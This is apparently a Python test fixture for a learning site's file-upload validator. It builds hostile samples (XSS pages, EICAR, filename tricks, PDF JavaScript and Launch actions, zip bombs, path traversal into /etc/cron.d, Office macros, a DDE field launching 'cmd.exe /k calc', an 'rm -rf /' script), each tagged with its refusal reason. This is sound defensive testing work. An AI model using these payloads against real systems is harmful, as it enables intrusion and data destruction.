"""Hostile files, each with the reason for which it is refused; made here, so that none lies about in the repository."""

import io
import zipfile

from learning_site.private_files.choices import Reason
from tests.learning_site.private_files import samples as s

_HTML = b"<!DOCTYPE html><script>alert(document.cookie)</script>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
_EXE = b"MZ\x90\x00" + bytes(200)
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
_MACRO_TYPE = '<Override ContentType="application/vnd.ms-office.vbaProject"/>'
_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_DEEP = s.office("xlsx", xl__embeddings__deeper_dot_xlsx=s.office("xlsx"))

NAMES = {
    "a script": ("run.js", b"alert(1)", Reason.FORMAT),
    "a program": ("tool.exe", _EXE, Reason.FORMAT),
    "EICAR under its own name": ("eicar.com", s.EICAR, Reason.FORMAT),
    "EICAR as text": ("eicar.txt", s.EICAR, Reason.FORMAT),
    "a web page": ("page.html", _HTML, Reason.FORMAT),
    "a drawing with a script": ("logo.svg", _SVG, Reason.FORMAT),
    "no ending": ("README", b"text", Reason.FORMAT),
    "only an ending": (".pdf", s.pdf(), Reason.FORMAT),
    "no name": ("", s.pdf(), Reason.NAME),
    "a name of dots": ("...", s.pdf(), Reason.NAME),
    "a name of invisible characters": ("\u200b\u202e", s.pdf(), Reason.NAME),
    "program behind a second ending": ("invoice.pdf.exe", _EXE, Reason.FORMAT),
    "program before a second ending": ("invoice.exe.pdf", s.pdf(), Reason.TWO_ENDINGS),
    "web page before a second ending": ("page.html.pdf", s.pdf(), Reason.TWO_ENDINGS),
    "PHP before a second ending": ("shell.php.jpg", s.image(), Reason.TWO_ENDINGS),
    "ending turned round": ("annexe\u202efdp.exe", _EXE, Reason.FORMAT),
    "ending behind a NUL": ("report.pdf\x00.exe", _EXE, Reason.FORMAT),
    "ending behind spaces and dots": ("report.exe . .", _EXE, Reason.FORMAT),
    "an alternate data stream": ("report.pdf:evil.exe", _EXE, Reason.FORMAT),
    "macros by ending": ("log.xlsm", s.office("xlsx"), Reason.MACROS),
    "old Office by ending": ("letter.doc", _OLE, Reason.OLD_OFFICE),
}

CONTENTS = {
    "nothing": ("empty.pdf", b"", Reason.EMPTY),
    "a web page named PDF": ("page.pdf", _HTML, Reason.MISMATCH),
    "a program named PDF": ("tool.pdf", _EXE, Reason.MISMATCH),
    "a script named PNG": ("run.png", b"#!/bin/sh\nrm -rf /", Reason.MISMATCH),
    "a drawing named PNG": ("logo.png", _SVG, Reason.MISMATCH),
    "a PNG named JPEG": ("photo.jpg", s.image("PNG"), Reason.MISMATCH),
    "a GIF named PNG": ("moving.png", s.image("GIF"), Reason.MISMATCH),
    "a PDF named Word": ("letter.docx", s.pdf(), Reason.MISMATCH),
    "an archive named Word": ("letter.docx", s.archive({"a.pdf": s.pdf()}), Reason.MISMATCH),
    "a workbook named Word": ("letter.docx", s.office("xlsx"), Reason.MISMATCH),
    "Word with a password": ("letter.docx", _OLE, Reason.OLD_OFFICE),
    "a PNG cut short": ("photo.png", s.image("PNG")[:-40], Reason.DAMAGED),
    "a JPEG of noise": ("photo.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4, Reason.DAMAGED),
    "an image of endless pixels": ("huge.png", s.png_that_claims(60_000, 60_000), Reason.TOO_MANY_PIXELS),
    "a directory alone": ("empty.zip", b"PK\x05\x06" + bytes(18), Reason.EMPTY),
}

PDFS = {
    "script": ("a.pdf", s.pdf(b"<</S /JavaScript /JS (app.alert(1))>>"), Reason.ACTIVE),
    "script in disguise": ("a.pdf", s.pdf(b"<</S /J#61vaScr#69pt /JS (x)>>"), Reason.ACTIVE),
    "script in an object stream": ("a.pdf", s.pdf(s.object_stream(b"7 0 <</S /JavaScript>>")), Reason.ACTIVE),
    "script in a disguised object stream": (
        "a.pdf",
        s.pdf(s.object_stream(b"7 0 <</S/JavaScript>>", b"/Type /Obj#53tm /Filter [/FlateDecode]")),
        Reason.ACTIVE,
    ),
    "object stream packed twice": (
        "a.pdf",
        s.pdf(s.object_stream(b"x", b"/Type /ObjStm /Filter [/FlateDecode /ASCIIHexDecode]")),
        Reason.DAMAGED,
    ),
    "object stream cut short": (
        "a.pdf",
        s.pdf(s.stream(b"/Type /ObjStm /Filter /FlateDecode", b"not packed")),
        Reason.DAMAGED,
    ),
    "launch": ("a.pdf", s.pdf(b"<</S /Launch /F (cmd.exe)>>"), Reason.ACTIVE),
    "attachment": ("a.pdf", s.pdf(b"<</Type /EmbeddedFile>>"), Reason.ACTIVE),
    "form that sends": ("a.pdf", s.pdf(b"<</S /SubmitForm /F (http://x)>>"), Reason.ACTIVE),
    "XFA form": ("a.pdf", s.pdf(b"<</XFA 5 0 R>>"), Reason.ACTIVE),
    "rich media": ("a.pdf", s.pdf(b"<</Subtype /RichMedia>>"), Reason.ACTIVE),
    "remote file": ("a.pdf", s.pdf(b"<</S /GoToR /F (\\\\\\\\host\\\\share)>>"), Reason.ACTIVE),
    "protection": ("a.pdf", s.pdf(end=b"trailer <</Encrypt 5 0 R>>\n%%EOF"), Reason.PASSWORD),
    "no end": ("a.pdf", s.pdf(end=b""), Reason.DAMAGED),
    "an archive behind it": ("a.pdf", s.pdf() + s.archive({"x": b"x"}), Reason.TWO_KINDS),
    "an archive around its end": (
        "a.pdf",
        s.pdf(end=b"") + s.archive_of((zipfile.ZipInfo("x"), b"x"), comment=b"\n%%EOF\n"),
        Reason.TWO_KINDS,
    ),
    "a web page behind it": ("a.pdf", s.pdf() + _HTML, Reason.TWO_KINDS),
    "an object stream that bursts": (
        "a.pdf",
        s.pdf(*[s.object_stream(bytes(9 * 1024 * 1024))] * 2),
        Reason.UNPACKED_TOO_LARGE,
    ),
}

_PDF = {"a.pdf": s.pdf()}
ARCHIVES = {
    "bomb": ("a.zip", s.bomb(), Reason.UNPACKED_TOO_LARGE),
    "many parts that burst together": (
        "a.zip",
        s.archive({f"{n}.pdf": s.pdf(bytes(1024 * 1024)) for n in range(20)}),
        Reason.UNPACKED_TOO_LARGE,
    ),
    "a lie about its size": ("a.zip", s.archive_that_lies_about_size(), Reason.DAMAGED),
    "overlapping parts": ("a.zip", s.overlapping_archive(), Reason.DAMAGED),
    "too many files": ("a.zip", s.archive({f"{n}.pdf": b"" for n in range(2_001)}), Reason.TOO_MANY),
    "an archive in it": ("a.zip", s.archive({"b.zip": s.archive(_PDF)}), Reason.NESTED),
    "a symbolic link": ("a.zip", s.link_in_archive(), Reason.LINKS),
    "a device": ("a.zip", s.device_in_archive(), Reason.LINKS),
    "a path that climbs": ("a.zip", s.archive({"../../etc/cron.d/a.pdf": s.pdf()}), Reason.LINKS),
    "a path from the root": ("a.zip", s.archive({"/etc/a.pdf": s.pdf()}), Reason.LINKS),
    "a path with a drive": ("a.zip", s.archive({"C:a.pdf": s.pdf()}), Reason.LINKS),
    "a path with backslashes": ("a.zip", s.archive({"..\\a.pdf": s.pdf()}), Reason.LINKS),
    "a path turned round": ("a.zip", s.archive({"a\u202efdp.pdf": s.pdf()}), Reason.LINKS),
    "names that collide": ("a.zip", s.archive({"a.pdf": s.pdf(), "A.PDF": s.pdf()}), Reason.DAMAGED),
    "a password": ("a.zip", s.protected_archive(), Reason.PASSWORD),
    "an unusual packing": ("a.zip", s.archive(_PDF, method=zipfile.ZIP_LZMA), Reason.DAMAGED),
    "cut short": ("a.zip", s.archive(_PDF)[:-30], Reason.DAMAGED),
    "something hidden in its comment": (
        "a.zip",
        s.archive_of((zipfile.ZipInfo("a.pdf"), s.pdf()), comment=_HTML * 3),
        Reason.TWO_KINDS,
    ),
    "a program in it": ("a.zip", s.archive({"tool.exe": _EXE}), Reason.FORMAT),
    "EICAR in it": ("a.zip", s.archive({"eicar.com": s.EICAR}), Reason.FORMAT),
    "a script PDF in it": ("a.zip", s.archive({"a.pdf": s.pdf(b"<</S /JavaScript>>")}), Reason.ACTIVE),
    "macros in it": ("a.zip", s.archive({"a.docx": s.office(word__vbaProject_dot_bin=b"x")}), Reason.MACROS),
}

OFFICE = {
    "macro part": ("a.docx", s.office(word__vbaProject_dot_bin=b"x"), Reason.MACROS),
    "macro part under another name": ("a.docx", s.office(types=_MACRO_TYPE), Reason.MACROS),
    "macro document named plain": ("a.docx", s.office(says=_MACRO_MAIN), Reason.MACROS),
    "macro sheet of Excel 4": ("a.xlsx", s.office("xlsx", xl__macrosheets__sheet1_dot_xml=b"<x/>"), Reason.MACROS),
    "control": ("a.docx", s.office(word__activeX__activeX1_dot_xml=b"<x/>"), Reason.EMBEDDED),
    "object": ("a.docx", s.office(word__embeddings__oleObject1_dot_bin=_OLE), Reason.EMBEDDED),
    "program as a picture": ("a.docx", s.office(word__media__image1_dot_png=s.archive({"x": b"x"})), Reason.EMBEDDED),
    "workbook in a workbook in a document": (
        "a.docx",
        s.office(word__embeddings__chart_dot_xlsx=_DEEP),
        Reason.NESTED,
    ),
    "macros in the workbook of a chart": (
        "a.pptx",
        s.office("pptx", ppt__embeddings__chart_dot_xlsx=s.office("xlsx", xl__vbaProject_dot_bin=b"x")),
        Reason.MACROS,
    ),
    "template from elsewhere": (
        "a.docx",
        s.office(relationships=s.relationship("attachedTemplate", "http://x/t.dotm")),
        Reason.FETCHES,
    ),
    "picture from elsewhere": (
        "a.docx",
        s.office(relationships=s.relationship("image", "http://x/pixel.png")),
        Reason.FETCHES,
    ),
    "link to a file share": (
        "a.docx",
        s.office(relationships=s.relationship("hyperlink", "file://host/share")),
        Reason.FETCHES,
    ),
    "link to a script": (
        "a.docx",
        s.office(relationships=s.relationship("hyperlink", "javascript:alert(1)")),
        Reason.FETCHES,
    ),
    "workbook of somebody else": (
        "a.xlsx",
        s.office("xlsx", relationships=s.relationship("externalLinkPath", "b.xlsx")),
        Reason.FETCHES,
    ),
    "web page as a chunk": (
        "a.docx",
        s.office(relationships=s.relationship("aFChunk", "page.html", external=False)),
        Reason.FETCHES,
    ),
    "field that starts a program": (
        "a.docx",
        s.office(main=s.word_field(" DD", 'EAUTO c:\\\\cmd.exe "/k calc"')),
        Reason.FETCHES,
    ),
    "field that fetches a file": (
        "a.docx",
        s.office(main=s.word_field(' INCLUDETEXT "http://x/secret"')),
        Reason.FETCHES,
    ),
    "data link of a workbook": (
        "a.xlsx",
        s.office("xlsx", xl__externalLinks__externalLink1_dot_xml=b"<e><ddeLink ddeService='cmd'/></e>"),
        Reason.FETCHES,
    ),
    "entities that burst": (
        "a.docx",
        s.office(relationships="", word___rels__more_dot_xml_dot_rels=b'<!DOCTYPE r [<!ENTITY a "aa">]><r>&a;</r>'),
        Reason.DAMAGED,
    ),
    "words hidden by an encoding": ("a.docx", s.office(word__more_dot_xml="<x/>".encode("utf-16")), Reason.DAMAGED),
    "bomb": ("a.xlsx", s.office("xlsx", xl__sheet_dot_xml=bytes(30 * 1024 * 1024)), Reason.UNPACKED_TOO_LARGE),
}

REFUSED = {
    f"{group}: {title}": sample
    for group, samples in {
        "name": NAMES,
        "content": CONTENTS,
        "PDF": PDFS,
        "archive": ARCHIVES,
        "office": OFFICE,
    }.items()
    for title, sample in samples.items()
}

#: Kept, but as something harmless: what was added to them is gone from the bytes that are kept.
NEUTRALISED = {
    "a picture with place and camera": ("photo.jpg", s.photograph_with_place(), b"SecretCamera"),
    "a picture with an archive behind it": ("photo.jpg", s.image() + s.archive({"x.sh": b"rm -rf"}), b"PK\x03\x04"),
    "a picture with a web page behind it": ("photo.png", s.image("PNG") + _HTML, b"<script>"),
    "a picture with a script in its comment": ("photo.jpg", s.image(comment=_HTML), b"<script>"),
    "an archive of pictures with places": (
        "photos.zip",
        s.archive({"1.jpg": s.photograph_with_place()}, method=zipfile.ZIP_STORED),
        b"SecretCamera",
    ),
    "an archive with notes of an operating system": (
        "photos.zip",
        s.archive({"1.jpg": s.image(), "__MACOSX/._1.jpg": _EXE}, method=zipfile.ZIP_STORED),
        b"MACOSX",
    ),
}


def unpacked(content: bytes) -> bytes:
    """The bytes of a file, and of each part and the name of each part if it is an archive."""
    if not content.startswith(b"PK"):
        return content
    with opened(content) as archive:
        return content + b"".join(name.encode() + archive.read(name) for name in archive.namelist())


def opened(content: bytes) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(content))
